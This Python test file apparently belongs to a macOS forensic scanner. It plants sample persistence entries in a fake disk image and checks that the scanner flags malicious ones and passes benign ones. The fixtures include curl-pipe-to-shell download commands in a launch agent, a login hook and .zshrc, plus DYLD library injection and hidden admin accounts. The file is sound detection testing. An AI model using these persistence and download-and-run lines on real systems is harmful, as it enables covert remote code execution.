"""Every macOS start-up place (issue 12): each entry written as the real file into a disk copy is
found, with its origin and behaviour, at the severity the rules give; a benign entry in the same
place is not flagged. One copy holds all of them and is scanned once with the shipped rules."""

from __future__ import annotations

import contextlib
import plistlib
import struct
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from techcheck.artifacts import Artifact
from techcheck.collectors.macos.receipts import BomError, bom_paths, installed_path
from techcheck.ruleset import load_rules, shipped_rules_dir
from techcheck.scan import ScanResult, run_scan
from techcheck.target.image import open_image
from tests.conftest import write
from tests.macos_tree import (
    mac_skeleton,
    make_bom,
    put_real,
    write_app,
    write_job,
    write_plist,
    write_receipt,
)
from tests.test_macos_loginitems import btm_archive

RULES = load_rules([shipped_rules_dir()])
HOME = "Users/ana"
SAMPLE_BOM = Path(__file__).parent / "data/macos/receipts/Sample.bom"


def dslocal_user(name: str, uid: int, created: float, hidden: bool = False) -> bytes:
    record: dict[str, Any] = {"name": [name], "uid": [str(uid)], "shell": ["/bin/zsh"], "realname": [name],
                              "ShadowHashData": [b"hash"],
                              "accountPolicyData": [plistlib.dumps({"creationTime": created})]}
    if hidden:
        record["IsHidden"] = ["1"]
    return plistlib.dumps(record, fmt=plistlib.FMT_BINARY)


def build_launchd(root: Path) -> None:
    la, ld = f"{HOME}/Library/LaunchAgents", "Library/LaunchDaemons"
    write(root, f"{HOME}/Library/.cache/agent", b"\xcf\xfa\xed\xfe")
    write_job(root, f"{la}/com.example.sync.plist", "com.example.sync", [f"/{HOME}/Library/.cache/agent"])
    write_job(root, f"{ld}/com.example.sysmond.plist", "com.example.sysmond", ["/usr/local/bin/sysmond"],
              binary=True)
    write_job(root, f"{ld}/com.apple.softwareupdate.helper.plist", "com.apple.softwareupdate.helper",
              ["/Library/Application Support/SysUpdate/update"])
    write_job(root, f"{la}/com.example.fetch.plist", "com.example.fetch",
              ["/bin/sh", "-c", "curl -s https://203.0.113.5/a.sh | sh"])
    write(root, "private/tmp/run.sh", "#!/bin/bash\necho hi\n")
    write_job(root, f"{ld}/com.example.tmpscript.plist", "com.example.tmpscript",
              ["/bin/bash", "/private/tmp/run.sh"])
    write_job(root, f"{la}/com.example.inject.plist", "com.example.inject",
              ["/Applications/Notes.app/Contents/MacOS/x"],
              EnvironmentVariables={"DYLD_INSERT_LIBRARIES": f"/{HOME}/Library/.lib/libhook.dylib"})
    # benign: Santa's real agent with Santa.app present; Apple's real job in /System; a packaged daemon
    put_real(root, "macos/LaunchAgents/com.google.santa.plist", "Library/LaunchAgents/com.google.santa.plist")
    write_app(root, "Applications/Santa.app", "com.google.santa", "Santa")
    put_real(root, "macos/LaunchDaemons/com.apple.mDNSResponder.plist",
             "System/Library/LaunchDaemons/com.apple.mDNSResponder.plist")
    write_job(root, f"{ld}/org.example.backupd.plist", "org.example.backupd", ["/usr/local/libexec/backupd"],
              EnvironmentVariables={"LANG": "en_US.UTF-8"})
    write(root, "usr/local/libexec/backupd", b"\xcf\xfa\xed\xfe")
    write(root, "opt/homebrew/opt/fake/bin/fake", b"\xcf\xfa\xed\xfe")  # no keg receipt: not Homebrew's
    write_job(root, f"{la}/homebrew.mxcl.fake.plist", "homebrew.mxcl.fake", ["/opt/homebrew/opt/fake/bin/fake"])
    write_receipt(root, "org.example.backup", ["/usr/local/libexec/backupd", f"/{ld}/org.example.backupd.plist"])


def build_login_items(root: Path) -> None:
    byhost = f"{HOME}/Library/Preferences/ByHost/com.apple.loginwindow.1F2E3D4C-0000-4000-8000-00000000ABCD.plist"
    write_plist(root, byhost, {"TALAppsToRelaunchAtLogin": [
        {"BundleID": "com.example.helper", "Path": "/Users/Shared/Helper.app", "Hide": True, "BackgroundState": 2},
        {"BundleID": "com.google.Chrome", "Path": "/Applications/Google Chrome.app", "Hide": False,
         "BackgroundState": 2}]}, binary=True)
    write_app(root, "Applications/Google Chrome.app", "com.google.Chrome", "Google Chrome")
    write(root, "private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v4.btm", btm_archive())
    write_app(root, "Applications/Notes Helper.app", "com.example.noteshelper", "Notes Helper")
    write(root, "Applications/Notes.app/Contents/MacOS/x", b"\xcf\xfa\xed\xfe")
    write_app(root, "Applications/Tool.app", "com.example.tool", "Tool",
              LSEnvironment={"DYLD_INSERT_LIBRARIES": "/Users/Shared/libspy.dylib"})
    write_app(root, "Applications/Editor.app", "com.example.editor", "Editor", LSEnvironment={"LANG": "C"})


def build_hooks_and_rules(root: Path) -> None:
    write(root, "Users/Shared/.hook.sh", "#!/bin/sh\ncurl -s https://203.0.113.5/p | sh\n")
    write_plist(root, "Library/Preferences/com.apple.loginwindow.plist",
                {"LoginHook": "/Users/Shared/.hook.sh", "HiddenUsersList": ["support2"]}, binary=True)
    write_plist(root, "private/var/root/Library/Preferences/com.apple.loginwindow.plist",
                {"LogoutHook": "/usr/local/outset/outset --logout"})
    write(root, "usr/local/outset/outset", "#!/usr/bin/env python3\nprint('ok')\n")
    write_receipt(root, "io.macadmins.Outset", ["/usr/local/outset/outset"])
    rules = "private/etc/emond.d/rules"
    write_plist(root, f"{rules}/update.plist", [{
        "name": "update", "enabled": True, "eventTypes": ["startup"],
        "actions": [{"type": "RunCommand", "command": "/bin/sh", "user": "root",
                     "arguments": ["-c", "/Users/Shared/.u/agent"]}]}])
    write_plist(root, f"{rules}/SampleRules.plist", [{
        "name": "sample rule", "enabled": True, "eventTypes": ["startup"],
        "actions": [{"type": "Log", "message": "event monitor started"}]}])
    write(root, "private/var/db/emondClients/x", "")
    item = "Library/StartupItems/Updater"
    write(root, f"{item}/Updater", "#!/bin/sh\n. /etc/rc.common\n/usr/local/bin/updater &\n")
    write_plist(root, f"{item}/StartupParameters.plist",
                {"Description": "Updater", "Provides": ["Updater"], "OrderPreference": "None"})
    kept = "Library/StartupItems/PrintSpool"
    write(root, f"{kept}/PrintSpool", "#!/bin/sh\nexit 0\n")
    write_plist(root, f"{kept}/StartupParameters.plist", {"Description": "Print spooler", "Provides": ["PrintSpool"]})
    write_receipt(root, "com.example.printspool", [f"/{kept}", f"/{kept}/PrintSpool"])
    write(root, "private/etc/launchd.conf", "# old settings\nbsexec 1 /bin/sh -c /Users/Shared/.l/run\n")


def build_schedules_and_shell(root: Path) -> None:
    write(root, "private/var/at/tabs/ana", "*/10 * * * * /Users/ana/.cache/x/run\n")
    write(root, "private/var/at/tabs/bo", "0 3 * * * /usr/local/libexec/backupd --nightly\n")
    write(root, "Users/bo/Library/Preferences/.keep", "")
    write(root, "private/var/at/jobs/a0001801a2b3c4", "#!/bin/sh\n# atrun uid=501 gid=20\nexport HOME=/Users/ana\n"
                                                     "cd /Users/ana || {\n exit 1\n}\n/usr/local/bin/sendfile\n")
    write(root, "private/etc/periodic/daily/110.clean-tmps", "#!/bin/sh\n# stock macOS script\n")
    write(root, "usr/local/etc/periodic/daily/500.sync", "#!/bin/sh\n/usr/local/bin/sync\n")
    write(root, f"{HOME}/.zshrc", 'eval "$(/opt/homebrew/bin/brew shellenv)"\nexport PATH="$HOME/bin:$PATH"\n'
                                  "curl -fsSL https://203.0.113.9/x | sh\n"
                                  "nohup /private/tmp/.x/agent >/dev/null 2>&1 &\n")
    write(root, "private/etc/zshrc", "# System-wide profile for interactive zsh(1) shells.\nsetopt BEEP\n")


def build_plugins_and_extensions(root: Path) -> None:
    write_app(root, "Library/Security/SecurityAgentPlugins/AuthHelper.bundle", "com.example.authhelper")
    write_app(root, "Library/Security/SecurityAgentPlugins/JamfConnectLogin.bundle", "com.jamf.connect.login")
    write_receipt(root, "com.jamf.connect.login", ["/Library/Security/SecurityAgentPlugins/JamfConnectLogin.bundle"])
    write_app(root, "Library/DirectoryServices/PlugIns/Lookup.dsplug", "com.example.lookup")
    write_app(root, f"{HOME}/Library/Screen Savers/Fish.saver", "com.example.fish")
    write_app(root, "Library/Spotlight/Notes.mdimporter", "com.example.notes.mdimporter")
    write_app(root, f"{HOME}/Library/QuickLook/Peek.qlgenerator", "com.example.peek")
    write_app(root, "Library/QuickLook/Markdown.qlgenerator", "com.example.markdown")
    write_receipt(root, "com.example.markdown", ["/Library/QuickLook/Markdown.qlgenerator"])
    write_app(root, "Library/Extensions/Watch.kext", "com.example.watch")
    sysext = "Library/SystemExtensions"
    write_app(root, f"{sysext}/1111AAAA-0000-4000-8000-000000000001/com.example.netfilter.systemextension",
              "com.example.netfilter")
    write_app(root, f"{sysext}/2222BBBB-0000-4000-8000-000000000002/com.google.santa.daemon.systemextension",
              "com.google.santa.daemon")
    write_app(root, "Applications/Santa.app/Contents/Library/SystemExtensions/com.google.santa.daemon.systemextension",
              "com.google.santa.daemon")
    write(root, "Library/PrivilegedHelperTools/com.example.rootd", b"\xcf\xfa\xed\xfe")
    write(root, "Library/PrivilegedHelperTools/com.example.vpn.helper", b"\xcf\xfa\xed\xfe")
    write_app(root, "Applications/ExampleVPN.app", "com.examplecorp.vpn", "ExampleVPN",
              SMPrivilegedExecutables={"com.example.vpn.helper": "identifier com.example.vpn.helper"})


def build_accounts(root: Path) -> None:
    base = "private/var/db/dslocal/nodes/Default"
    now, old = time.time(), time.time() - 400 * 86400
    write(root, f"{base}/users/ana.plist", dslocal_user("ana", 501, old))
    write(root, f"{base}/users/support.plist", dslocal_user("support", 502, old, hidden=True))
    write(root, f"{base}/users/svc.plist", dslocal_user("svc", 499, old))
    write(root, f"{base}/users/support2.plist", dslocal_user("support2", 503, old))
    write(root, f"{base}/users/helper.plist", dslocal_user("helper", 504, now - 2 * 86400))
    write(root, f"{base}/users/Guest.plist", dslocal_user("Guest", 201, old))
    write(root, f"{base}/users/_spotlight.plist", dslocal_user("_spotlight", 89, old))
    write(root, f"{base}/groups/admin.plist",
          plistlib.dumps({"name": ["admin"], "users": ["root", "ana", "helper"]}, fmt=plistlib.FMT_BINARY))


@pytest.fixture(scope="module")
def scan(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    root = mac_skeleton(tmp_path_factory.mktemp("attack") / "mac")
    for build in (build_launchd, build_login_items, build_hooks_and_rules, build_schedules_and_shell,
                  build_plugins_and_extensions, build_accounts):
        build(root)
    return run_scan(open_image(str(root)), RULES)


def entry(scan: ScanResult, mechanism: str, name: str) -> Artifact:
    found = [a for a in scan.artifacts if a.get("mechanism") == mechanism and a.get("name") == name]
    assert len(found) == 1, [(a.get("mechanism"), a.get("name")) for a in scan.artifacts]
    return found[0]


def severities(scan: ScanResult, art: Artifact) -> set[str]:
    return {rule.severity for f in scan.findings for rule, arts in f.matched if art in arts}


def rule_ids(scan: ScanResult, art: Artifact) -> set[str]:
    return {rule.id for f in scan.findings for rule, arts in f.matched if art in arts}


# (mechanism, name, origin, behaviour tags that must be there, severities expected)
FLAGGED = [
    ("launch_agent", "com.example.sync", "unknown", {"hidden_folder", "user_folder"}, {"alert", "review"}),
    ("launch_daemon", "com.example.sysmond", "unknown", set(), {"review"}),
    ("launch_agent", "homebrew.mxcl.fake", "unknown", set(), {"review"}),
    ("launch_daemon", "com.apple.softwareupdate.helper", "unknown", {"system_name_elsewhere"}, {"alert", "review"}),
    ("launch_agent", "com.example.fetch", "unknown", {"download_exec", "inline_code"}, {"review"}),
    ("launch_daemon", "com.example.tmpscript", "unknown", {"temp_folder"}, {"alert", "review"}),
    ("dyld_insert", "com.example.inject", "unknown", {"hidden_folder"}, {"alert", "review"}),
    ("dyld_insert", "Tool", "unknown", set(), {"alert", "review"}),
    ("reopen_at_login", "Helper", "unknown", set(), {"alert", "review"}),
    ("launch_agent", "sync agent", "unknown", {"hidden_folder"}, {"alert", "review"}),  # from the BTM store
    ("login_hook", "LoginHook", "unknown", {"download_exec"}, {"alert", "review"}),
    ("emond_rule", "update", "unknown", {"inline_code"}, {"alert", "review"}),
    ("startup_item", "Updater", "unknown", set(), {"review"}),
    ("launchd_conf", "launchd.conf:2", "unknown", {"inline_code"}, {"review"}),
    ("cron", "ana:1", "unknown", {"hidden_folder"}, {"alert", "review"}),
    ("at", "a0001801a2b3c4", "unknown", set(), {"review"}),
    ("periodic", "500.sync", "unknown", set(), {"review"}),
    ("shell_startup", ".zshrc:3", "unknown", {"download_exec"}, {"review"}),
    ("shell_startup", ".zshrc:4", "unknown", {"temp_folder", "hidden_folder"}, {"alert", "review"}),
    ("authorization_plugin", "AuthHelper", "unknown", set(), {"alert", "review"}),
    ("directory_services_plugin", "Lookup", "unknown", set(), {"review"}),
    ("screensaver", "Fish", "unknown", set(), {"review"}),
    ("spotlight_importer", "Notes", "unknown", set(), {"review"}),
    ("quicklook_plugin", "Peek", "unknown", set(), {"review"}),
]

# (mechanism, name, origin, origin_name): found, not flagged
BENIGN = [
    ("launch_agent", "com.google.santa", "installed", "Santa"),
    ("launch_daemon", "com.apple.mDNSResponder.reloaded", "system", "macOS"),
    ("launch_daemon", "org.example.backupd", "installed", "org.example.backup"),
    ("reopen_at_login", "Google Chrome", "installed", "Google Chrome"),
    ("login_item", "Notes Helper", "installed", "Notes Helper"),
    ("logout_hook", "LogoutHook", "installed", "io.macadmins.Outset"),
    ("startup_item", "PrintSpool", "installed", "com.example.printspool"),
    ("cron", "bo:1", "installed", "org.example.backup"),
    ("periodic", "110.clean-tmps", "system", "macOS"),
    ("authorization_plugin", "JamfConnectLogin", "installed", "com.jamf.connect.login"),
    ("quicklook_plugin", "Markdown", "installed", "com.example.markdown"),
]


@pytest.mark.parametrize(("mechanism", "name", "origin", "tags", "expected"), FLAGGED,
                         ids=[f"{m}:{n}" for m, n, *_ in FLAGGED])
def test_attack_entry_found_with_origin_behaviour_and_severity(scan: ScanResult, mechanism: str, name: str,
                                                               origin: str, tags: set[str], expected: set[str]) -> None:
    art = entry(scan, mechanism, name)
    assert art.get("origin") == origin
    assert tags <= set(art.get("behaviour") or []), art.get("behaviour")
    assert expected <= severities(scan, art), rule_ids(scan, art)


@pytest.mark.parametrize(("mechanism", "name", "origin", "origin_name"), BENIGN,
                         ids=[f"{m}:{n}" for m, n, *_ in BENIGN])
def test_benign_entry_in_the_same_place_is_not_flagged(scan: ScanResult, mechanism: str, name: str, origin: str,
                                                       origin_name: str) -> None:
    art = entry(scan, mechanism, name)
    assert (art.get("origin"), art.get("origin_name")) == (origin, origin_name)
    assert not severities(scan, art) & {"alert", "review"}, rule_ids(scan, art)


def test_interpreter_entries_take_the_origin_of_their_script(scan: ScanResult) -> None:
    tmp = entry(scan, "launch_daemon", "com.example.tmpscript")
    assert (tmp.get("interpreter"), tmp.get("runs")) == ("bash", "/private/tmp/run.sh")
    inline = entry(scan, "launch_agent", "com.example.fetch")
    assert inline.get("interpreter") == "sh" and not inline.get("runs") and inline.get("origin") == "unknown"


def test_benign_places_yield_nothing(scan: ScanResult) -> None:
    names = {(a.get("mechanism"), a.get("name")) for a in scan.artifacts}
    assert ("emond_rule", "sample rule") not in names  # a rule that only logs runs nothing
    assert not any(m == "dyld_insert" and n in ("org.example.backupd", "Editor") for m, n in names)
    assert not any(m == "shell_startup" and str(n).startswith((".zshrc:1", ".zshrc:2", "zshrc:")) for m, n in names)


def test_extensions_and_helper_tools(scan: ScanResult) -> None:
    apps = {str(a.get("install_path")).rsplit("/", 1)[-1]: a for a in scan.artifacts if a.kind == "app"}
    watch, net, santa = apps["Watch.kext"], apps["com.example.netfilter.systemextension"], \
        apps["com.google.santa.daemon.systemextension"]
    assert watch.get("origin") == "unknown" and "review" in severities(scan, watch)
    assert net.get("origin") == "unknown" and "review" in severities(scan, net)
    assert (santa.get("origin"), santa.get("origin_name")) == ("installed", "Santa")
    assert not severities(scan, santa) & {"alert", "review"}
    rootd, vpn = apps["com.example.rootd"], apps["com.example.vpn.helper"]
    assert rootd.get("origin") == "unknown" and "review" in severities(scan, rootd)
    assert (vpn.get("origin"), vpn.get("origin_name")) == ("installed", "ExampleVPN")  # SMJobBless list
    assert not severities(scan, vpn)


def test_accounts_hidden_and_new_admin(scan: ScanResult) -> None:
    accounts = {a.get("name"): a for a in scan.artifacts if a.kind == "account"}
    for name in ("support", "svc", "support2"):  # IsHidden, id under 500, HiddenUsersList
        assert accounts[name].get("hidden") is True, name
        assert "macos.account.hidden" in rule_ids(scan, accounts[name])
    helper = accounts["helper"]
    assert helper.get("admin") and helper.get("recently_created") and "review" in severities(scan, helper)
    for name in ("ana", "Guest", "_spotlight"):
        assert not accounts[name].get("hidden"), name
        assert "review" not in severities(scan, accounts[name]) and "alert" not in severities(scan, accounts[name])


def test_real_bom_from_pkgbuild() -> None:
    paths = bom_paths(SAMPLE_BOM.read_bytes())
    assert paths == [".", "./Applications", "./Applications/hello.txt"]
    assert [installed_path("/", p) for p in paths] == ["/", "/Applications", "/Applications/hello.txt"]


def test_bom_writer_round_trip_and_damaged_boms() -> None:
    data = make_bom(["./usr/local/bin/tool", "./Library/LaunchDaemons/x.plist"])
    assert set(bom_paths(data)) >= {"./usr/local/bin/tool", "./Library/LaunchDaemons/x.plist", "./usr/local"}
    for bad in (b"", b"BOMStore" + b"\xff" * 40, data[:600], b"NOTABOM" + data[7:]):
        with pytest.raises(BomError):
            bom_paths(bad)


def test_broken_files_in_every_new_place_give_notes_and_the_scan_goes_on(tmp_path: Path) -> None:
    root = mac_skeleton(tmp_path / "mac")
    broken = {
        "Library/Preferences/com.apple.loginwindow.plist": b"bplist00\x00broken",
        "private/etc/emond.d/rules/bad.plist": b"<plist><array><dict><key>name",
        "private/etc/emond.d/emond.plist": b"\x00\x01",
        "Library/StartupItems/Old/StartupParameters.plist": b"{ Description = ",
        "Users/ana/Library/Preferences/ByHost/com.apple.loginwindow.X.plist": b"not a plist",
        "private/var/db/receipts/com.example.pkg.plist": b"bplist00",
        "private/var/db/receipts/com.example.ok.bom": b"BOMStore" + b"\xff" * 64,
        "Library/Security/SecurityAgentPlugins/Broken.bundle/Contents/Info.plist": b"<plist>",
    }
    for rel, data in broken.items():
        write(root, rel, data)
    write_plist(root, "private/var/db/receipts/com.example.ok.plist", {"PackageIdentifier": "com.example.ok"})
    write(root, "private/var/at/tabs/ana", "this is not a cron line\n" * 50 + "@reboot /usr/local/bin/x\n")
    write(root, "Users/ana/.zshrc", b"\xff\xfe\x00garbage\n")
    result = run_scan(open_image(str(root)), RULES)
    assert all(c.status == "ok" for c in result.checks if c.name.startswith("macos.")), \
        [(c.name, c.reason) for c in result.checks if c.status != "ok"]
    noted = {n.path for c in result.checks for n in c.notes}
    for rel in ("Library/Preferences/com.apple.loginwindow.plist", "private/etc/emond.d/rules/bad.plist",
                "private/etc/emond.d/emond.plist", "Library/StartupItems/Old/StartupParameters.plist",
                "Users/ana/Library/Preferences/ByHost/com.apple.loginwindow.X.plist",
                "private/var/db/receipts/com.example.pkg.plist", "private/var/db/receipts/com.example.ok.bom",
                "private/var/at/tabs/ana"):
        assert "/" + rel in noted, rel
    cron = [a for a in result.artifacts if a.get("mechanism") == "cron"]
    assert [a.get("trigger") for a in cron] == ["boot"]  # the one good line is still read


@given(st.binary(max_size=2048))
@settings(max_examples=200, deadline=None)
def test_bom_reader_never_crashes(data: bytes) -> None:
    with contextlib.suppress(BomError):
        bom_paths(b"BOMStore" + data)


def test_bom_with_short_records_is_an_error_not_a_crash() -> None:
    data = bytearray(make_bom(["./a"]))
    # point the leaf's first key at the (empty) null block's neighbour with a too-short length
    offset = struct.unpack_from(">I", data, 16)[0]  # index table
    struct.pack_into(">II", data, offset + 4 + 8 * 2, 512, 2)  # block 2 (path info) only 2 bytes long
    with pytest.raises(BomError):
        bom_paths(bytes(data))


def test_times_are_typed_and_say_where_they_come_from(scan: ScanResult) -> None:
    packaged = entry(scan, "launch_daemon", "org.example.backupd")
    kinds = {(t.kind, str(t.source)) for t in packaged.get("times")}
    assert kinds == {("changed", "file modification time"), ("installed", "installer receipt")}
    installed = next(t for t in packaged.get("times") if t.kind == "installed")
    assert installed.when.isoformat() == "2025-03-01T10:00:00+00:00"  # the receipt's InstallDate, in UTC
    unknown = entry(scan, "launch_agent", "com.example.sync")
    assert [t.kind for t in unknown.get("times")] == ["changed"]  # a modification time is never "installed"
    as_json = unknown.to_dict()["fields"]["times"]
    assert as_json[0]["kind"] == "changed" and as_json[0]["time"].endswith("+00:00")
